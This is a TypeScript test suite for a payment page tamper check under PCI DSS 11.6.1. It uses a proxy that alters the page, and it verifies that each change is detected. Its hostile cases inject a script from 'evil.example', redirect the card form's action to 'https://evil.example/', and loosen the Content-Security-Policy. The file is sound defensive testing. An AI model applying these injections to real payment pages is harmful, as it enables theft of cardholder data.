// The check of the page that browsers receive (PCI DSS 11.6.1), against the service itself and against a
// proxy that changes its answers.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { handler } from '#page-check.ts';
import { startHarness } from '../harness/harness.ts';

const { service, logs, buyer, http } = await startHarness();
const check = async () => (await handler({}, { awsRequestId: 'R-1' })).differences;

type Page = { status: number; headers: Record<string, string>; body: string };
let change = (page: Page): Page => page;

async function serve(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const answer = await fetch(`${service.baseUrl}${request.url}`, { redirect: 'manual' });
  // `fetch` has decompressed the body.
  const { 'content-length': _, 'content-encoding': __, ...headers } = Object.fromEntries(answer.headers);
  const page = change({ status: answer.status, headers, body: await answer.text() });
  response.writeHead(page.status, page.headers).end(page.body);
}
const between = createServer((request, response) => {
  serve(request, response).catch(() => response.destroy());
});
beforeAll(async () => {
  await new Promise<void>((listening) => void between.listen(0, listening));
});
afterAll(() => void between.close());
const payUrl = process.env['PAY_URL'];
const integrity = process.env['PAGE_SCRIPT_INTEGRITY'];
afterEach(() => {
  Object.assign(process.env, { PAY_URL: payUrl, PAGE_SCRIPT_INTEGRITY: integrity });
  change = (page) => page;
});

describe('the check of the page', () => {
  it('the released page has no difference, and the metric is 0', async () => {
    expect(await check()).toEqual([]);
    expect(logs.at(-1)).toContain('"PageDiffers":0');
  });

  const withPolicy = (edit: (policy: string) => string) => (page: Page) => ({
    ...page,
    headers: {
      ...page.headers,
      'content-security-policy': edit(page.headers['content-security-policy'] ?? ''),
    },
  });
  const HOSTILE: [what: string, (page: Page) => Page, differences: string[]][] = [
    [
      'a second script',
      (page) => ({
        ...page,
        body: page.body.replace('</body>', '<script src="//evil.example"></script></body>'),
      }),
      ['script', 'document'],
    ],
    [
      'one changed character of the script',
      (page) => ({
        ...page,
        body: page.body.replace(/(<script[^>]*>[\s\S]*?)addEventListener/, '$1addEventlistener'),
      }),
      ['script', 'document'],
    ],
    [
      'another address of the form',
      (page) => ({ ...page, body: page.body.replace('action="', 'action="https://evil.example/') }),
      ['document'],
    ],
    [
      'a wider policy',
      withPolicy((policy) => policy.replace("connect-src 'self'", 'connect-src *')),
      ['header Content-Security-Policy'],
    ],
    [
      'a header that is gone',
      ({ headers: { 'referrer-policy': _, ...headers }, ...page }) => ({ ...page, headers }),
      ['header Referrer-Policy'],
    ],
    [
      'a cookie',
      (page) => ({ ...page, headers: { ...page.headers, 'set-cookie': 'a=b' } }),
      ['foreign header set-cookie'],
    ],
    ['another status', (page) => ({ ...page, status: 203 }), ['status']],
    ['no policy', withPolicy(() => "default-src 'none'"), ['nonce']],
  ];

  it.each(HOSTILE)(
    '%s between service and browser is found, counted and named',
    async (_, edit, differences) => {
      process.env['PAY_URL'] = `http://localhost:${(between.address() as AddressInfo).port}`;
      expect(await check()).toEqual([]);
      change = edit;
      const found = await check();
      expect(found.filter((one) => one.startsWith('tr '))).toEqual(differences.map((name) => `tr ${name}`));
      expect(found.length).toBeGreaterThanOrEqual(2 * differences.length);
      expect(logs.at(-1)).toContain('"PageDiffers":1');
      expect(logs.at(-2)).toContain(differences[0]);
    },
  );

  it('a repeated nonce is found', async () => {
    const nonce = 'A'.repeat(24);
    const fix = (text: string) => text.replaceAll(/nonce-[A-Za-z0-9+/=]+/g, `nonce-${nonce}`);
    change = (page) => ({
      ...withPolicy(fix)(page),
      body: page.body.replaceAll(/nonce="[^"]*"/g, `nonce="${nonce}"`),
    });
    process.env['PAY_URL'] = `http://localhost:${(between.address() as AddressInfo).port}`;
    expect(await check()).toEqual(['nonce repeated']);
  });

  it('a bundle that agrees with itself but not with the released script is found', async () => {
    process.env['PAGE_SCRIPT_INTEGRITY'] = 'sha384-other';
    expect(await check()).toEqual(['tr script', 'en script']);
  });

  it('a page that cannot be opened fails the check', async () => {
    process.env['PAY_URL'] = 'http://localhost:1';
    await expect(check()).rejects.toThrow();
  });
});

describe('the specimen', () => {
  it('the specimen is the form of a real page, and no payment can be made with it', async () => {
    const form = await buyer.open(`${service.baseUrl}/iframe/specimen`);
    expect(form.status).toBe(200);
    expect(form.text).toContain('name="cardNumber"');
    const headers = { 'content-type': 'application/x-www-form-urlencoded' };
    for (const path of ['/iframe/specimen', '/iframe/specimen/3d', '/iframe/specimen/3d/cancel']) {
      const answer = await http({ method: 'POST', path, headers, body: 'cardNumber=4' });
      expect([path, answer.status]).toEqual([path, 404]);
    }
  });
});
